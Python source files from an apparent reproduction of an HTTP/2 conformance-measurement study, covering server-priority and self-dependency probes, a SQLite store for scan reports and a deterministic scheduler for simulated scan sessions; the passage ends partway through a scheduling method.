from repro.scope.probes.negotiation import probe_negotiation
from repro.scope.probes.settings_probe import probe_settings
from repro.scope.probes.multiplexing import probe_multiplexing
from repro.scope.probes.flow_control import (
    probe_large_window_update,
    probe_tiny_window,
    probe_zero_window_headers,
    probe_zero_window_update,
)
from repro.scope.probes.priority import probe_priority, probe_self_dependency
from repro.scope.probes.push import probe_push
from repro.scope.probes.hpack_probe import probe_hpack
from repro.scope.probes.ping import probe_ping

__all__ = [
    "probe_hpack",
    "probe_large_window_update",
    "probe_multiplexing",
    "probe_negotiation",
    "probe_ping",
    "probe_priority",
    "probe_push",
    "probe_self_dependency",
    "probe_settings",
    "probe_tiny_window",
    "probe_zero_window_headers",
    "probe_zero_window_update",
]
