"""Priority-mechanism probes: Algorithm 1 and self-dependency (§III-C).

Algorithm 1 infers remotely whether a server honours stream priorities.
Naively sending prioritised requests does not work: response order is
disturbed by flow control and by FCFS request processing.  The paper's
three-step method removes both disturbances:

1. **Prepare the context** — announce a huge
   SETTINGS_INITIAL_WINDOW_SIZE (so no *stream* window ever blocks) and
   deplete the 65,535-octet *connection* window by downloading objects,
   then RST those streams.  The server now cannot send any DATA.
2. **Plant the tree** — send M prioritised requests building Table I's
   dependency tree, then PRIORITY frames that reshape it into the
   §5.3.3 example (D → A → {B, C, F}, C → E) to exercise
   re-prioritisation, exclusive flags included.
3. **Release and observe** — one connection-level WINDOW_UPDATE opens
   the floodgates; the order of DATA frames reveals the scheduler.

Expected orderings for a priority-respecting server (§V-E1):
D's DATA before everything; A's before everything except D; C's before
E's.  The paper evaluates the rules against first DATA frames, last
DATA frames, and both.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.h2 import events as ev
from repro.h2.constants import MAX_WINDOW_SIZE, SettingCode
from repro.h2.frames import PriorityData
from repro.scope.client import ScopeClient
from repro.scope.report import ErrorReaction, PriorityResult
from repro.scope.session import as_session

IWS = int(SettingCode.INITIAL_WINDOW_SIZE)

#: The initial connection-level window of RFC 7540 §6.9.1.
INITIAL_CONNECTION_WINDOW = 65_535

#: Stream labels used by the paper's example (Table I / Fig. 1).
LABELS = ["A", "B", "C", "D", "E", "F"]


@dataclass
class _PlantedStream:
    label: str
    stream_id: int
    path: str


def probe_priority(
    session,
    domain: str,
    test_paths: list[str],
    depletion_paths: list[str],
    timeout: float = 120.0,
) -> PriorityResult:
    """Run Algorithm 1 against ``domain``.

    ``test_paths`` supplies ≥ 6 object paths for the labelled streams;
    ``depletion_paths`` supplies objects used to drain the connection
    window in step 1.
    """
    session = as_session(session)
    result = PriorityResult()
    if len(test_paths) < len(LABELS):
        raise ValueError(f"need {len(LABELS)} test paths, got {len(test_paths)}")

    # Step 1a: huge stream windows so only the connection window matters.
    client = session.client(
        domain,
        settings={IWS: MAX_WINDOW_SIZE},
        auto_window_update=False,
    )
    if not client.establish_h2():
        client.close()
        return result

    # Step 1b: drain the 65,535-octet connection window.
    drained = _deplete_connection_window(client, depletion_paths, timeout)
    if not drained:
        client.close()
        return result

    # Step 2: plant Table I's tree with prioritised requests...
    planted = _plant_tree(client, test_paths)
    sid = {p.label: p.stream_id for p in planted}

    # ...and reshape it with PRIORITY frames: A becomes the exclusive
    # child of D (the §5.3.3 "moving a dependency" case — D, previously
    # A's child, is first hoisted to A's old parent), then E moves under
    # C.  Final tree: D -> A -> {B, C, F}, C -> E.
    client.send_priority(sid["A"], depends_on=sid["D"], weight=16, exclusive=True)
    client.send_priority(sid["E"], depends_on=sid["C"], weight=16, exclusive=False)

    # Give the server a moment to build the tree; record whether it
    # leaks HEADERS while the connection window is still zero.
    client.sleep(1.0)
    planted_ids = set(sid.values())
    result.headers_while_blocked = any(
        te.event.stream_id in planted_ids
        for te in client.events_of(ev.HeadersReceived)
    )

    # Step 3: release the connection window and let everything drain.
    client.send_window_update(0, MAX_WINDOW_SIZE - INITIAL_CONNECTION_WINDOW)
    client.wait_for(
        lambda: planted_ids
        <= {te.event.stream_id for te in client.events_of(ev.StreamEnded)},
        timeout=timeout,
    )

    # Analyse DATA-frame order.
    id_to_label = {p.stream_id: p.label for p in planted}
    first_order: list[str] = []
    last_seen: dict[str, int] = {}
    for index, te in enumerate(client.events_of(ev.DataReceived)):
        label = id_to_label.get(te.event.stream_id)
        if label is None or not te.event.data:
            continue
        if label not in first_order:
            first_order.append(label)
        last_seen[label] = index
    last_order = sorted(last_seen, key=last_seen.get)  # type: ignore[arg-type]

    result.first_frame_order = first_order
    result.last_frame_order = last_order
    result.follows_rules_by_first = _follows_rules(first_order)
    result.follows_rules_by_last = _follows_rules(last_order)
    result.follows_rules_by_both = (
        result.follows_rules_by_first and result.follows_rules_by_last
    )
    result.passes_algorithm1 = result.follows_rules_by_last
    client.close()
    return result


def _deplete_connection_window(
    client: ScopeClient, depletion_paths: list[str], timeout: float
) -> bool:
    """§III-C step 1: download until 65,535 octets have been received.

    The callback-driven original computes how many streams it needs; we
    request objects one at a time until the received flow-controlled
    byte count reaches the initial connection window, then RST the
    depletion streams so they cannot interfere.
    """
    received = 0
    depletion_ids: list[int] = []
    for path in depletion_paths:
        stream_id = client.request(path)
        depletion_ids.append(stream_id)

        def consumed() -> int:
            return sum(
                te.event.flow_controlled_length
                for te in client.events_of(ev.DataReceived)
                if te.event.stream_id in depletion_ids
            )

        client.wait_for(
            lambda: consumed() >= INITIAL_CONNECTION_WINDOW
            or _stalled(client, depletion_ids),
            timeout=timeout / 4,
        )
        received = consumed()
        if received >= INITIAL_CONNECTION_WINDOW:
            break
    for stream_id in depletion_ids:
        client.send_rst_stream(stream_id)
    return received >= INITIAL_CONNECTION_WINDOW


def _stalled(client: ScopeClient, depletion_ids: list[int]) -> bool:
    """All requested depletion streams finished without filling the window."""
    ended = {te.event.stream_id for te in client.events_of(ev.StreamEnded)}
    return set(depletion_ids) <= ended


def _plant_tree(
    client: ScopeClient, test_paths: list[str]
) -> list[_PlantedStream]:
    """Send the six prioritised requests of Table I.

    A depends on the root; B, C, D on A; E on B; F on D (all weight 1,
    none exclusive).  Dependencies reference sibling streams, so ids
    are pre-assigned in label order.
    """
    assert client.conn is not None
    planted: list[_PlantedStream] = []
    ids: dict[str, int] = {}
    dependency = {"A": None, "B": "A", "C": "A", "D": "A", "E": "B", "F": "D"}
    for label, path in zip(LABELS, test_paths):
        parent = dependency[label]
        depends_on = ids[parent] if parent else 0
        stream_id = client.request(
            path,
            priority=PriorityData(depends_on=depends_on, weight=1, exclusive=False),
        )
        ids[label] = stream_id
        planted.append(_PlantedStream(label=label, stream_id=stream_id, path=path))
    return planted


def _follows_rules(order: list[str]) -> bool:
    """§V-E1's expected-order rules for the final tree.

    D before every other stream; A before everything except D; C before
    E.  Streams that never produced DATA fail the check.
    """
    position = {label: index for index, label in enumerate(order)}
    if set(position) != set(LABELS):
        return False
    if any(position["D"] > position[x] for x in LABELS if x != "D"):
        return False
    if any(position["A"] > position[x] for x in LABELS if x not in ("A", "D")):
        return False
    return position["C"] < position["E"]


def probe_self_dependency(
    session,
    domain: str,
    path: str = "/big.bin",
    timeout: float = 8.0,
) -> ErrorReaction | None:
    """§III-C2: PRIORITY frame making a stream depend on itself.

    RFC 7540 prescribes a stream error (RST_STREAM); Table III shows
    servers also answer GOAWAY or ignore it.
    """
    client = as_session(session).client(domain, settings={IWS: 1})
    if not client.establish_h2(timeout=timeout):
        client.close()
        return None
    stream_id = client.request(path)
    client.wait_for(
        lambda: client.headers_for(stream_id) is not None, timeout=timeout / 2
    )
    client.send_priority(stream_id, depends_on=stream_id, weight=16)

    def saw_reaction() -> bool:
        return any(
            (
                isinstance(te.event, ev.StreamReset)
                and te.event.stream_id == stream_id
            )
            or isinstance(te.event, ev.GoAwayReceived)
            for te in client.events
        )

    client.wait_for(saw_reaction, timeout=timeout)
    reaction = ErrorReaction.IGNORE
    for te in client.events:
        if isinstance(te.event, ev.StreamReset) and te.event.stream_id == stream_id:
            reaction = ErrorReaction.RST_STREAM
            break
        if isinstance(te.event, ev.GoAwayReceived):
            reaction = ErrorReaction.GOAWAY
            break
    client.close()
    return reaction
