"""Persistent storage for scan results (paper §IV-B).

The paper's H2Scope stores every request/response "into a database for
further study"; this module provides that layer: a SQLite-backed store
for :class:`~repro.scope.report.SiteReport` objects with enough
structure to re-run the Section-V analyses offline.

Reports serialize to a JSON document plus indexed columns for the
fields every analysis groups by (server family, h2 support, HEADERS
receipt).  The store is append-friendly: scanning campaigns at
different times into one database reproduces the paper's two-experiment
longitudinal design.
"""

from __future__ import annotations

import json
import sqlite3
from contextlib import contextmanager
from dataclasses import fields, is_dataclass
from pathlib import Path

from repro.scope.report import (
    ErrorClass,
    ErrorReaction,
    FlowControlResult,
    HpackResult,
    MultiplexingResult,
    NegotiationResult,
    PingResult,
    PriorityResult,
    PushResult,
    ScanError,
    SettingsResult,
    SiteReport,
    TinyWindowResult,
)
from repro.scope.trace import (
    decode_timeline,
    decode_trace,
    encode_timeline,
    encode_trace,
)

#: Current on-disk schema version.  Version 1 is the PR-1-era layout
#: (reports table only, no version stamp); version 2 adds the campaign
#: journal tables; version 3 adds per-probe frame traces; version 4
#: adds the ``label`` column on traces (attack corpora).  Databases
#: stamped with a *newer* version are refused — an older tool must not
#: scribble over a journal whose invariants it does not understand.
SCHEMA_VERSION = 4

_SCHEMA = """
CREATE TABLE IF NOT EXISTS reports (
    id INTEGER PRIMARY KEY AUTOINCREMENT,
    campaign TEXT NOT NULL,
    domain TEXT NOT NULL,
    server_header TEXT,
    speaks_h2 INTEGER NOT NULL,
    headers_received INTEGER NOT NULL,
    hpack_ratio REAL,
    document TEXT NOT NULL,
    UNIQUE (campaign, domain)
);
CREATE INDEX IF NOT EXISTS idx_reports_campaign ON reports (campaign);
CREATE INDEX IF NOT EXISTS idx_reports_server ON reports (server_header);
CREATE TABLE IF NOT EXISTS schema_version (
    version INTEGER NOT NULL
);
CREATE TABLE IF NOT EXISTS campaigns (
    campaign TEXT PRIMARY KEY,
    manifest TEXT NOT NULL
);
CREATE TABLE IF NOT EXISTS campaign_sites (
    campaign TEXT NOT NULL,
    site_index INTEGER NOT NULL,
    domain TEXT NOT NULL,
    status TEXT NOT NULL DEFAULT 'pending',
    attempts INTEGER NOT NULL DEFAULT 0,
    virtual_time REAL NOT NULL DEFAULT 0.0,
    last_error TEXT,
    PRIMARY KEY (campaign, site_index)
);
CREATE INDEX IF NOT EXISTS idx_campaign_sites_status
    ON campaign_sites (campaign, status);
CREATE TABLE IF NOT EXISTS traces (
    campaign TEXT NOT NULL,
    domain TEXT NOT NULL,
    probe TEXT NOT NULL,
    document TEXT NOT NULL,
    label TEXT,
    PRIMARY KEY (campaign, domain, probe)
);
"""


class SchemaVersionError(RuntimeError):
    """The database was written by an incompatible (newer) schema."""


def _encode(value):
    """JSON-encode dataclasses/enums/bytes recursively."""
    if is_dataclass(value) and not isinstance(value, type):
        return {f.name: _encode(getattr(value, f.name)) for f in fields(value)}
    if isinstance(value, (ErrorClass, ErrorReaction, TinyWindowResult)):
        return {"__enum__": type(value).__name__, "value": value.name}
    if isinstance(value, bytes):
        return {"__bytes__": value.hex()}
    if isinstance(value, dict):
        return {str(k): _encode(v) for k, v in value.items()}
    if isinstance(value, (list, tuple)):
        return [_encode(v) for v in value]
    return value


_ENUMS = {
    "ErrorClass": ErrorClass,
    "ErrorReaction": ErrorReaction,
    "TinyWindowResult": TinyWindowResult,
}


def _decode(value):
    if isinstance(value, dict):
        if "__enum__" in value:
            return _ENUMS[value["__enum__"]][value["value"]]
        if "__bytes__" in value:
            return bytes.fromhex(value["__bytes__"])
        return {k: _decode(v) for k, v in value.items()}
    if isinstance(value, list):
        return [_decode(v) for v in value]
    return value


def _rebuild(cls, data: dict):
    """Reconstruct a (possibly nested) report dataclass."""
    kwargs = {}
    for field in fields(cls):
        if field.name not in data:
            continue
        raw = _decode(data[field.name])
        nested = _NESTED.get((cls, field.name))
        if nested is not None and raw is not None:
            raw = _rebuild(nested, data[field.name])
        nested_list = _NESTED_LISTS.get((cls, field.name))
        if nested_list is not None and raw is not None:
            # Items may be dataclass documents or (legacy) bare strings.
            raw = [
                _rebuild(nested_list, item) if isinstance(item, dict) else item
                for item in data[field.name]
            ]
        kwargs[field.name] = raw
    instance = cls(**kwargs)
    if isinstance(instance, SettingsResult):
        # JSON stringifies integer keys; restore the wire identifiers.
        instance.announced = {int(k): v for k, v in instance.announced.items()}
    return instance


_NESTED = {
    (SiteReport, "negotiation"): NegotiationResult,
    (SiteReport, "settings"): SettingsResult,
    (SiteReport, "multiplexing"): MultiplexingResult,
    (SiteReport, "flow_control"): FlowControlResult,
    (SiteReport, "priority"): PriorityResult,
    (SiteReport, "push"): PushResult,
    (SiteReport, "hpack"): HpackResult,
    (SiteReport, "ping"): PingResult,
}

_NESTED_LISTS = {
    (SiteReport, "errors"): ScanError,
}


class ReportStore:
    """A SQLite database of scan reports, grouped into campaigns.

    Hardened for multi-day campaigns: WAL journaling (readers never
    block the writer), a busy timeout instead of immediate
    ``database is locked`` failures, a schema-version stamp with a
    migration guard, and single-transaction batch writes so a crash
    can never leave a half-flushed checkpoint behind.
    """

    def __init__(self, path: str | Path = ":memory:"):
        self.path = str(path)
        self._db = sqlite3.connect(self.path)
        self._db.execute("PRAGMA busy_timeout = 5000")
        # WAL needs a real file; on :memory: the pragma is a no-op.
        self._db.execute("PRAGMA journal_mode = WAL")
        self._init_schema()

    def _init_schema(self) -> None:
        tables = {
            row[0]
            for row in self._db.execute(
                "SELECT name FROM sqlite_master WHERE type = 'table'"
            )
        }
        if "schema_version" in tables:
            row = self._db.execute(
                "SELECT MAX(version) FROM schema_version"
            ).fetchone()
            version = row[0] if row[0] is not None else SCHEMA_VERSION
        elif "reports" in tables:
            version = 1  # pre-journal database: safe to migrate in place
        else:
            version = SCHEMA_VERSION  # fresh file
        if version > SCHEMA_VERSION:
            raise SchemaVersionError(
                f"{self.path}: schema version {version} is newer than this "
                f"tool supports ({SCHEMA_VERSION}); refusing to open"
            )
        self._db.executescript(_SCHEMA)
        # v3 -> v4: CREATE IF NOT EXISTS leaves an existing traces table
        # untouched, so the label column needs an in-place ALTER.
        trace_columns = {
            row[1] for row in self._db.execute("PRAGMA table_info(traces)")
        }
        if "label" not in trace_columns:
            self._db.execute("ALTER TABLE traces ADD COLUMN label TEXT")
        # The label index lives outside _SCHEMA: on a v3 file it can
        # only exist once the ALTER above has added its column.
        self._db.execute(
            "CREATE INDEX IF NOT EXISTS idx_traces_label "
            "ON traces (campaign, label)"
        )
        with self._db:
            self._db.execute("DELETE FROM schema_version")
            self._db.execute(
                "INSERT INTO schema_version (version) VALUES (?)",
                (SCHEMA_VERSION,),
            )

    @property
    def connection(self) -> sqlite3.Connection:
        """The underlying connection (for the campaign journal)."""
        return self._db

    @contextmanager
    def transaction(self):
        """One atomic unit of work: commit on exit, roll back on error."""
        with self._db:
            yield self._db

    def close(self) -> None:
        self._db.close()

    def __enter__(self) -> "ReportStore":
        return self

    def __exit__(self, *exc_info) -> None:
        self.close()

    # -- writing ----------------------------------------------------------

    def stage(self, campaign: str, report: SiteReport) -> None:
        """Insert or replace one report WITHOUT committing.

        The caller owns the transaction; the campaign journal uses this
        to write a checkpoint's reports and status rows atomically.
        """
        document = json.dumps(_encode(report))
        self._db.execute(
            "INSERT OR REPLACE INTO reports "
            "(campaign, domain, server_header, speaks_h2, headers_received, "
            " hpack_ratio, document) VALUES (?, ?, ?, ?, ?, ?, ?)",
            (
                campaign,
                report.domain,
                report.negotiation.server_header,
                int(report.speaks_h2),
                int(report.negotiation.headers_received),
                report.hpack.ratio,
                document,
            ),
        )

    def save(self, campaign: str, report: SiteReport) -> None:
        """Insert or replace one report."""
        with self._db:
            self.stage(campaign, report)

    def save_many(self, campaign: str, reports: list[SiteReport]) -> None:
        """Write all reports in ONE transaction.

        Atomic (a crash mid-flush leaves no partial batch) and much
        faster than per-row commits: one fsync instead of ``len(reports)``.
        """
        with self._db:
            for report in reports:
                self.stage(campaign, report)

    # -- traces -----------------------------------------------------------

    def stage_trace(
        self,
        campaign: str,
        domain: str,
        probe: str,
        timed_frames,
        label: str | None = None,
    ) -> None:
        """Insert or replace one probe's frame timeline WITHOUT committing."""
        document = json.dumps(encode_trace(timed_frames))
        self._db.execute(
            "INSERT OR REPLACE INTO traces "
            "(campaign, domain, probe, document, label) VALUES (?, ?, ?, ?, ?)",
            (campaign, domain, probe, document, label),
        )

    def save_traces(
        self, campaign: str, domain: str, traces: dict[str, list]
    ) -> None:
        """Write every probe's timeline for one site in ONE transaction.

        ``traces`` is :attr:`~repro.scope.trace.TraceRecorder.traces`
        (probe name -> list of traced frames); empty timelines are
        stored too, so "probe ran, nothing arrived" stays auditable.
        """
        with self._db:
            for probe, timeline in traces.items():
                self.stage_trace(campaign, domain, probe, timeline)

    def load_trace(self, campaign: str, domain: str, probe: str):
        """One probe's stored timeline as TracedFrame objects, or None."""
        row = self._db.execute(
            "SELECT document FROM traces "
            "WHERE campaign = ? AND domain = ? AND probe = ?",
            (campaign, domain, probe),
        ).fetchone()
        if row is None:
            return None
        return decode_trace(json.loads(row[0]))

    def trace_probes(self, campaign: str, domain: str) -> list[str]:
        """Names of probes with stored traces for one site."""
        rows = self._db.execute(
            "SELECT probe FROM traces WHERE campaign = ? AND domain = ? "
            "ORDER BY probe",
            (campaign, domain),
        ).fetchall()
        return [row[0] for row in rows]

    # -- connection timelines (labelled corpora) ---------------------------

    def save_timelines(self, campaign: str, domain: str, timelines) -> None:
        """Store labelled :class:`~repro.scope.trace.ConnectionTimeline`
        objects for one site in ONE transaction.

        Timelines share the traces table (keyed ``connection-N``) but
        carry the full lifetime document and the label column, so
        detector corpora and probe traces live in one database.
        """
        with self._db:
            for index, timeline in enumerate(timelines):
                document = json.dumps(encode_timeline(timeline))
                self._db.execute(
                    "INSERT OR REPLACE INTO traces "
                    "(campaign, domain, probe, document, label) "
                    "VALUES (?, ?, ?, ?, ?)",
                    (
                        campaign,
                        domain,
                        f"connection-{index}",
                        document,
                        timeline.label,
                    ),
                )

    def load_timelines(self, campaign: str, domain: str | None = None):
        """Stored connection timelines (probe traces are skipped)."""
        query = "SELECT document FROM traces WHERE campaign = ?"
        params: list = [campaign]
        if domain is not None:
            query += " AND domain = ?"
            params.append(domain)
        query += " ORDER BY domain, probe"
        out = []
        for (document,) in self._db.execute(query, params):
            parsed = json.loads(document)
            if isinstance(parsed, dict) and "frames" in parsed:
                out.append(decode_timeline(parsed))
        return out

    def timeline_labels(self, campaign: str) -> dict[str, int]:
        """Count of stored timelines per label (None key = benign)."""
        rows = self._db.execute(
            "SELECT label, COUNT(*) FROM traces WHERE campaign = ? "
            "GROUP BY label ORDER BY label",
            (campaign,),
        ).fetchall()
        return {label: count for label, count in rows}

    # -- reading -------------------------------------------------------------

    def load(self, campaign: str, domain: str) -> SiteReport | None:
        row = self._db.execute(
            "SELECT document FROM reports WHERE campaign = ? AND domain = ?",
            (campaign, domain),
        ).fetchone()
        if row is None:
            return None
        return _rebuild(SiteReport, json.loads(row[0]))

    def load_campaign(self, campaign: str) -> list[SiteReport]:
        rows = self._db.execute(
            "SELECT document FROM reports WHERE campaign = ? ORDER BY domain",
            (campaign,),
        ).fetchall()
        return [_rebuild(SiteReport, json.loads(row[0])) for row in rows]

    def campaigns(self) -> list[str]:
        rows = self._db.execute(
            "SELECT DISTINCT campaign FROM reports ORDER BY campaign"
        ).fetchall()
        return [row[0] for row in rows]

    # -- aggregate queries (the §V groupings) ----------------------------------

    def count(self, campaign: str, headers_only: bool = False) -> int:
        query = "SELECT COUNT(*) FROM reports WHERE campaign = ?"
        if headers_only:
            query += " AND headers_received = 1"
        return self._db.execute(query, (campaign,)).fetchone()[0]

    def server_header_counts(self, campaign: str) -> dict[str, int]:
        """Table IV's grouping, straight from the index columns."""
        rows = self._db.execute(
            "SELECT server_header, COUNT(*) FROM reports "
            "WHERE campaign = ? AND headers_received = 1 "
            "GROUP BY server_header ORDER BY COUNT(*) DESC",
            (campaign,),
        ).fetchall()
        return {header or "(none)": count for header, count in rows}

    def hpack_ratios(self, campaign: str) -> list[float]:
        rows = self._db.execute(
            "SELECT hpack_ratio FROM reports "
            "WHERE campaign = ? AND hpack_ratio IS NOT NULL",
            (campaign,),
        ).fetchall()
        return [row[0] for row in rows]

    # -- integrity -----------------------------------------------------------

    def verify(self) -> list[str]:
        """Integrity-check the open database; return a problem list.

        Empty list = healthy.  Checks the SQLite page structure, that
        every stored report document parses, and that the campaign
        journal's ``done`` rows all have a report behind them.
        """
        return _verify_connection(self._db)


def _verify_connection(db: sqlite3.Connection) -> list[str]:
    problems: list[str] = []
    try:
        for (line,) in db.execute("PRAGMA integrity_check"):
            if line != "ok":
                problems.append(f"integrity_check: {line}")
        if problems:
            return problems
        tables = {
            row[0]
            for row in db.execute(
                "SELECT name FROM sqlite_master WHERE type = 'table'"
            )
        }
        if "reports" not in tables:
            return problems
        for domain, document in db.execute(
            "SELECT domain, document FROM reports"
        ):
            try:
                json.loads(document)
            except ValueError:
                problems.append(f"unparseable report document for {domain!r}")
        if "campaign_sites" not in tables:
            return problems
        for campaign, domain in db.execute(
            "SELECT campaign, domain FROM campaign_sites WHERE status = 'done'"
        ):
            hit = db.execute(
                "SELECT 1 FROM reports WHERE campaign = ? AND domain = ?",
                (campaign, domain),
            ).fetchone()
            if hit is None:
                problems.append(
                    f"journal marks {campaign}/{domain} done but no report stored"
                )
    except sqlite3.DatabaseError as exc:
        problems.append(f"corrupt database: {exc}")
    return problems


def verify_database(path: str | Path) -> list[str]:
    """Integrity-check a database file without needing it to open cleanly.

    Never raises: a truncated or overwritten file comes back as a
    problem list, which is what a resume decision needs.
    """
    try:
        db = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
    except sqlite3.Error as exc:
        return [f"cannot open {path}: {exc}"]
    try:
        return _verify_connection(db)
    finally:
        db.close()
