"""Single-loop session multiplexing: N in-flight probe sessions, one lane.

``BENCH_parallel_scan.json`` showed process sharding is a net *loss* on
small hosts (fork/IPC overhead dominates post-PR-4 per-site cost), and
the paper's own prober only reached the Alexa-1M by keeping thousands
of connections in flight from one process.  This module is that lever:
a cooperative scheduler that keeps up to ``concurrency`` probe sessions
in flight inside one process, on one logical event loop.

Two facts make this safe and simple:

* **Private universes.**  Every site is scanned in its own
  ``Simulation`` + ``Network`` seeded ``(seed + site_index)``, so a
  site's report is a pure function of the manifest.  *Any* interleaving
  of sessions therefore preserves byte-identical reports — the
  scheduler only has to be deterministic (stable completion order),
  non-starving, and isolated (one session's fault or retry cannot stall
  the others).
* **Sans-IO probes.**  All probe waits go through
  ``TransportBackend.run_until`` / ``sleep_until`` (PR 5), so a backend
  subclass can slice those waits at event boundaries and hand control
  to whichever session is earliest on a *global* virtual clock.

Scheduler model (the "baton")
-----------------------------

Probe code is synchronous, so each in-flight session runs on its own
thread — but exactly **one** thread runs at a time: a baton is handed
off at backend wait points, which is what makes this a single logical
event loop rather than a thread pool.  Each lane ``i`` is admitted at
global virtual time ``offset_i`` (the global clock when a slot freed)
and its global position is ``offset_i + sim_i.now``.  When a lane
reaches a wait, :class:`InterleavedBackend` computes the global time of
its next step (next simulation event, or the wait deadline) and parks
if — and only if — some other lane wakes earlier: **global virtual time
only advances when every lane with an earlier wake-up has run**.  The
deterministic policy always grants the lane with the minimal
``(wake_time, admission_index)``; because ties are broken by admission
index, the schedule (and thus the completion order) is a pure function
of the task list.  A seeded-random policy is also provided: it grants a
uniformly random lane one event step per grant, which the fuzz battery
uses to prove that *no* interleaving can change a single report byte.

The slice optimisation matters: a full park/resume handoff costs two
Event round-trips, so a lane only parks when another lane's wake time
is actually earlier — otherwise it keeps running inline.  With similar
per-site costs a lane processes many events per handoff and the
scheduling overhead stays a few percent of the scan itself.

Composition: :mod:`repro.scope.parallel` embeds this scheduler both in
its serial path and inside each worker process, so ``--workers W
--concurrency C`` keeps ``W x C`` sessions in flight while the parent
stays the sole SQLite writer and the reorder buffer keeps journal bytes
identical to a serial run.
"""

from __future__ import annotations

import threading
import time
from collections import deque
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass, field
from random import Random

from repro.net.backend import SimulatedBackend
from repro.scope.report import SiteReport
from repro.scope.resilience import make_scan_error

_INFINITY = float("inf")

#: Stack size for lane threads.  Lanes are shallow (probe code plus the
#: engine's callback nesting), and ~1k in-flight lanes at the default
#: 8 MiB would reserve gigabytes of address space for nothing.
LANE_STACK_BYTES = 1 << 20

#: Hard ceiling on events processed inside one ``run_until`` /
#: ``sleep_until`` slice — the same runaway guard ``Simulation.run``
#: applies, kept so a pathological self-rescheduling universe cannot
#: wedge the whole scheduler.
_MAX_SLICE_EVENTS = 10_000_000


class SchedulerAbort(BaseException):
    """Raised inside a lane thread to unwind an aborted scan.

    Deliberately a ``BaseException``: the probe layer's "a scan survives
    anything" handlers catch ``Exception``, and an abort must tear the
    lane down, not become an error-bearing report.
    """


@dataclass
class ConcurrencyMetrics:
    """Observable scheduler behaviour, for tests and the benchmark.

    ``virtual_makespan`` is the campaign's end-to-end *global* virtual
    time: what the wall-clock duration becomes once the waits are real
    network waits instead of simulated ones.  ``sites / makespan`` is
    the modeled scan throughput the benchmark sweep records alongside
    honest wall throughput (interleaving cannot shrink CPU time, but it
    collapses wait time — which is what dominates a real campaign).
    """

    concurrency: int = 1
    admitted: int = 0
    completed: int = 0
    #: Most lanes simultaneously in flight (never above ``concurrency``).
    high_water: int = 0
    #: Full park/resume baton handoffs (the slice optimisation keeps
    #: this far below the event count).
    handoffs: int = 0
    #: Global virtual time at which the last lane completed.
    virtual_makespan: float = 0.0


class _Lane:
    """One in-flight session: its thread, clock offset and park state."""

    __slots__ = (
        "index",
        "task",
        "offset",
        "position",
        "horizon_g",
        "horizon_index",
        "resume",
        "thread",
        "finished",
        "report",
        "failure",
        "aborted",
        "handoffs",
        "_baton",
    )

    def __init__(self, index: int, task, offset: float, baton: threading.Event):
        self.index = index
        self.task = task
        #: Global virtual time at admission; the lane's global position
        #: is ``offset + local_sim.now``.
        self.offset = offset
        self.position = offset
        self.horizon_g = _INFINITY
        self.horizon_index = -1
        self.resume = threading.Event()
        self.thread: threading.Thread | None = None
        self.finished = False
        self.report: SiteReport | None = None
        self.failure: BaseException | None = None
        self.aborted = False
        self.handoffs = 0
        self._baton = baton

    # Called by InterleavedBackend before every step that would move
    # this lane's global position to ``wake_g`` — the scheduler's only
    # hook into the scan, so it is kept deliberately cheap: two float
    # compares on the inline path, a full handoff only when another
    # lane genuinely wakes earlier.
    def advance(self, wake_g: float) -> None:
        if self.aborted:
            raise SchedulerAbort
        if wake_g < self.position:  # global position is monotone (the
            wake_g = self.position  # backward-clock oddity stays local)
        if wake_g < self.horizon_g or (
            wake_g == self.horizon_g and self.index < self.horizon_index
        ):
            self.position = wake_g
            return
        self._park(wake_g)

    def _park(self, wake_g: float) -> None:
        self.position = wake_g
        self.handoffs += 1
        self.resume.clear()
        self._baton.set()  # hand control back to the scheduler…
        self.resume.wait()  # …and sleep until granted again
        if self.aborted:
            raise SchedulerAbort


class InterleavedBackend(SimulatedBackend):
    """A :class:`SimulatedBackend` whose waits yield at event boundaries.

    Byte-compatibility contract: for the session's *private* universe
    this class is observationally identical to ``SimulatedBackend`` —
    the same events run at the same local times, the predicate is
    evaluated exactly as often (once up front, once per executed
    callback, once at the deadline only when the clock moved), and the
    pinned PR 4 edge semantics hold: a ``timeout=0`` wait returns False
    without re-evaluating the predicate when the clock did not move, and
    ``sleep_until`` a time *before* now preserves ``Simulation.run``'s
    documented backward-clock oddity by delegating the final clock move
    to it.  The only addition is a :meth:`_Lane.advance` call before
    each step, which may suspend the thread — invisible to the scan.
    """

    def __init__(self, network, lane: _Lane):
        super().__init__(network)
        self._lane = lane

    def run_until(self, predicate: Callable[[], bool], timeout: float) -> bool:
        sim = self.sim
        lane = self._lane
        offset = lane.offset
        deadline = sim.now + timeout
        if predicate():
            return True
        for _ in range(_MAX_SLICE_EVENTS):
            peek = sim.next_event_time()
            if peek is None or peek > deadline:
                if deadline == sim.now:
                    return False
                lane.advance(offset + deadline)
                sim.run(until=deadline)
                return predicate()
            lane.advance(offset + peek)
            sim.step()
            if predicate():
                return True
        raise RuntimeError(f"simulation exceeded {_MAX_SLICE_EVENTS} events")

    def sleep_until(self, when: float) -> None:
        sim = self.sim
        lane = self._lane
        offset = lane.offset
        for _ in range(_MAX_SLICE_EVENTS):
            peek = sim.next_event_time()
            if peek is None or peek > when:
                break
            lane.advance(offset + peek)
            sim.step()
        else:  # pragma: no cover - runaway universe
            raise RuntimeError(f"simulation exceeded {_MAX_SLICE_EVENTS} events")
        if when > sim.now:
            lane.advance(offset + when)
        sim.run(until=when)


#: Virtual seconds a granted lane may run *past* the earliest other
#: lane's position before parking.  Byte-identity never depends on the
#: global interleaving (universes are private), so strict event-level
#: lockstep buys nothing but handoffs — and with near-identical
#: universes the lanes tie at every event boundary, degrading to one
#: park per simulated event (~25 handoffs/site).  A fixed quantum keeps
#: the schedule a pure function of (position, index) — still fully
#: deterministic — while cutting handoffs roughly tenfold; the global
#: clock skew it admits is bounded by the quantum itself.
_HORIZON_QUANTUM = 0.5


@dataclass
class _Policy:
    """Grant policy: which parked lane runs next, and for how long."""

    #: None = deterministic min-(wake, index); a Random = fuzz mode.
    rng: Random | None = None
    quantum: float = _HORIZON_QUANTUM

    def pick(self, active: list[_Lane]) -> _Lane:
        if self.rng is not None:
            return active[self.rng.randrange(len(active))]
        return min(active, key=lambda lane: (lane.position, lane.index))

    def set_horizon(self, lane: _Lane, active: list[_Lane]) -> None:
        if self.rng is not None:
            # Fuzz mode: one event step per grant — the next advance()
            # always parks, maximising interleaving randomness.
            lane.horizon_g = -_INFINITY
            lane.horizon_index = -1
            return
